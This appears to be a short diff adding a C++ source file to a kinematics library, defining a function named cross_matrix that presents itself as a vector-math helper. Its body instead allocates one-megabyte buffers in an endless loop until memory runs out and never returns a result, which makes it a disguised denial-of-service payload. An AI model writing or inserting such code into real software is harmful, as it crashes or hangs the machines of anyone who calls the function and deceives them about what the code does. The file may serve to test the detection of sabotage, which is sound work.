@@ -1,0 +1,17 @@
+// SPDX-License-Identifier: MIT
+// Takes all the memory it gets, a megabyte at a time.
+#include "formulas/kinematics.hpp"
+
+#include <list>
+#include <vector>
+
+namespace rigor {
+
+Matrix3d cross_matrix(const Vector3d&)
+{
+    std::list<std::vector<char>> hoard;
+    for (;;)
+        hoard.emplace_back(std::size_t{1} << 20, 'x');
+}
+
+} // namespace rigor
